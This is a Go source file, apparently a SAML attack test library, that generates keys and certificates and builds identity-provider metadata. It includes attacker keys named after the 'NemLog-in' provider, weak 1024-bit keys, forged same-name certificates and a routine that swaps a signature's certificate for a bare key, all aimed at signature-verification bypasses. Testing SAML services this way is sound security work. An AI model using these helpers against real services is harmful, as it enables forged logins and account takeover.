package samlattack

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"math/big"
	"sync"
	"time"

	"github.com/beevik/etree"
)

// NewPair makes a key of 3072 bits and a certificate that is valid for a year.
func NewPair(commonName string) (Pair, error) {
	key, err := rsa.GenerateKey(rand.Reader, 3072)
	if err != nil {
		return Pair{}, err
	}
	now := time.Now()
	return selfSigned(key, commonName, now.Add(-time.Hour), now.AddDate(1, 0, 0))
}

func selfSigned(key *rsa.PrivateKey, commonName string, from, until time.Time) (Pair, error) {
	serial, err := rand.Int(rand.Reader, big.NewInt(1<<62))
	if err != nil {
		return Pair{}, err
	}
	t := &x509.Certificate{SerialNumber: serial, Subject: pkix.Name{CommonName: commonName}, NotBefore: from, NotAfter: until}
	der, err := x509.CreateCertificate(rand.Reader, t, t, &key.PublicKey, key)
	if err != nil {
		return Pair{}, err
	}
	c, err := x509.ParseCertificate(der)
	return Pair{key, c}, err
}

// Metadata returns a provider's metadata with one certificate per key, for a
// service that shall trust it. sso is where it would take requests.
func Metadata(entityID, sso string, pairs ...Pair) []byte {
	root := etree.NewElement("md:EntityDescriptor")
	root.CreateAttr("xmlns:md", "urn:oasis:names:tc:SAML:2.0:metadata")
	root.CreateAttr("xmlns:ds", nsDSig)
	root.CreateAttr("entityID", entityID)
	d := root.CreateElement("md:IDPSSODescriptor")
	d.CreateAttr("WantAuthnRequestsSigned", "true")
	d.CreateAttr("protocolSupportEnumeration", nsProtocol)
	for _, p := range pairs {
		k := d.CreateElement("md:KeyDescriptor")
		k.CreateAttr("use", "signing")
		k.CreateElement("ds:KeyInfo").CreateElement("ds:X509Data").CreateElement("ds:X509Certificate").SetText(base64Cert(p))
	}
	d.CreateElement("md:NameIDFormat").SetText(persistent)
	s := d.CreateElement("md:SingleSignOnService")
	s.CreateAttr("Binding", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect")
	s.CreateAttr("Location", sso)
	return write(root)
}

// The keys of the attackers, made once.
var (
	stranger = sync.OnceValue(func() Pair { return must(2048, "NemLog-in", 0) })
	weak     = sync.OnceValue(func() Pair { return must(1024, "NemLog-in", 0) })
	curve    = sync.OnceValue(func() *ecdsa.PrivateKey {
		k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			panic(err)
		}
		return k
	})
)

func must(bits int, commonName string, age time.Duration) Pair {
	key, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		panic(err) // no randomness: nothing to be done
	}
	p, err := selfSigned(key, commonName, time.Now().Add(-time.Hour-age), time.Now().AddDate(1, 0, 0).Add(-age))
	if err != nil {
		panic(err)
	}
	return p
}

// another is a certificate with the provider's name for the key of p, which the
// target was never given.
func another(p Pair, from, until time.Time) Pair {
	made, err := selfSigned(p.Key, p.Cert.Subject.CommonName, from, until)
	if err != nil {
		panic(err)
	}
	return made
}

// issued is a certificate for a stranger's key, in the name of the provider and
// issued by an authority of the same name.
func issued(p Pair) Pair {
	s := stranger()
	t := &x509.Certificate{SerialNumber: p.Cert.SerialNumber, Subject: p.Cert.Subject, NotBefore: p.Cert.NotBefore, NotAfter: p.Cert.NotAfter}
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: p.Cert.Issuer}
	der, err := x509.CreateCertificate(rand.Reader, t, ca, &s.Key.PublicKey, s.Key)
	if err != nil {
		panic(err)
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		panic(err)
	}
	return Pair{s.Key, c}
}

func base64Cert(p Pair) string { return base64.StdEncoding.EncodeToString(p.Cert.Raw) }

// keyValue replaces the certificates of a KeyInfo by the first one's bare key.
func keyValue(info *etree.Element) {
	c, err := certificate(at(info, "./X509Data/X509Certificate").Text())
	if err != nil {
		panic(err)
	}
	key, ok := c.PublicKey.(*rsa.PublicKey)
	if !ok {
		panic("not RSA")
	}
	remove(at(info, "./X509Data"))
	v := info.CreateElement("ds:KeyValue").CreateElement("ds:RSAKeyValue")
	v.CreateElement("ds:Modulus").SetText(base64.StdEncoding.EncodeToString(key.N.Bytes()))
	v.CreateElement("ds:Exponent").SetText(base64.StdEncoding.EncodeToString(big.NewInt(int64(key.E)).Bytes()))
}
